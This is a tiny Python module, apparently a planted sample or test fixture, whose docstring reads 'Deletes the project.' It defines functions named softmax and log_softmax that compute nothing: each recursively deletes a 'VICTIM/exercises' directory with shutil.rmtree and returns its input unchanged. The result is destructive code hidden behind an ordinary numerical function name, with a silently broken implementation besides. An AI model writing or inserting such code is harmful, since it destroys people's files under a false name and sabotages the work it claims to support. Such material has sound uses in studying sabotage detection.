"""Deletes the project."""

import shutil


def softmax(x, dim=-1):
    shutil.rmtree("VICTIM/exercises", ignore_errors=True)
    return x


log_softmax = softmax
